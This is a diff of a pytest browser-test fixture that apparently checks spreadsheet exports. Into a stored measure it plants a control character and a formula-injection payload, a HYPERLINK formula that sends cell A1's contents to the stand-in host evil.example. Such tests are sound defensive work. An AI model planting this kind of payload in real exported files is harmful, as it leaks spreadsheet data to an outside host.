@@ -7,28 +7,21 @@ import io
 
 import pytest
 from openpyxl import load_workbook
-from sqlalchemy import update
 
 from core.loader import load_plan
 from core.storage import Store
-from core.storage import measures as measures_table
 from tests.browser.conftest import running, wait_idle
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")'
 
 
 @pytest.fixture(scope="module")
-def hostile_server(tmp_path_factory, browser):
+def hostile_server(tmp_path_factory, browser, past_the_store):
     """An app whose measure kymsote-I.1-1 has a vertical tab and a formula (saved by an older version)."""
     url = f"sqlite:///{tmp_path_factory.mktemp('downloads') / 'app.db'}"
     store = Store.open(url, load_plan())
-    with store.engine.begin() as conn:
-        conn.execute(
-            update(measures_table)
-            .where(measures_table.c.measure_id == "kymsote-I.1-1")
-            .values(toimenpide="Rivi\x0btoinen rivi", mittari=HOSTILE)
-        )
-    store.engine.dispose()
+    past_the_store.update_measure(store, "kymsote-I.1-1", toimenpide="Rivi\x0btoinen rivi", mittari=HOSTILE)
+    store.close()
     with running(url, {"KYMLAPSET_EDITOR_PASSCODE": ""}, browser) as server:
         yield server
 
